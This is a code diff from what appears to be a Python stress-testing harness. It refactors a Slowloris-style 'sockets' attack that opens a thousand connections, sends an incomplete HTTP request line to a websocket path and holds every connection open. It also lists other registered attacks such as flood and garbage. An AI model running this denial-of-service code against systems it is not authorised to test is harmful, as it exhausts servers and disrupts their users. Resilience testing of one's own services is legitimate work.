@@ -119,28 +119,35 @@ async def subscribe(enemy: Enemy) -> None:
 
 
 async def sockets(enemy: Enemy) -> None:
-    """As many sockets as it can get, half of them silent before the handshake, all kept open."""
+    """As many sockets as it can get, twenty tried at a time, and a thousand silent before the handshake; all kept."""
     lines: list[Line] = []
-    silent: list[socket.socket] = []
-    place = urlsplit(enemy.address)
-    while enemy.goes_on:
-        if len(silent) < 1000:
-            plug = socket.socket()
-            plug.setblocking(False)
-            silent.append(plug)
-            await asyncio.get_running_loop().sock_connect(plug, (str(place.hostname), int(place.port or 80)))
-            plug.send(b"GET /ws/v1 HTTP/1.1\r\n")
-        line = await enemy.line()
-        if line is not None:
-            lines.append(line)
+
+    async def knock() -> None:
+        while enemy.goes_on:
+            line = await enemy.line()
+            if line is not None:
+                lines.append(line)
+
+    silent = [await plug(enemy.address) for _ in range(1000)]
+    await asyncio.gather(*(knock() for _ in range(20)))
     for line in lines:
         if line.open_now:
             enemy.tally.codes["open"] += 1
             line.cut()
         else:
             enemy.tally.codes[str(line.ended.result()[0])] += 1
-    for plug in silent:
-        plug.close()
+    for one in silent:
+        one.close()
+
+
+async def plug(address: str) -> socket.socket:
+    """A connection that begins to ask, and never ends."""
+    place = urlsplit(address)
+    one = socket.socket()
+    one.setblocking(False)
+    await asyncio.get_running_loop().sock_connect(one, (str(place.hostname), int(place.port or 80)))
+    one.send(b"GET /ws/v1 HTTP/1.1\r\n")
+    return one
 
 
 ATTACKS: dict[str, Attack] = {one.__name__: one for one in (flood, garbage, huge, large, fragments, subscribe, sockets)}
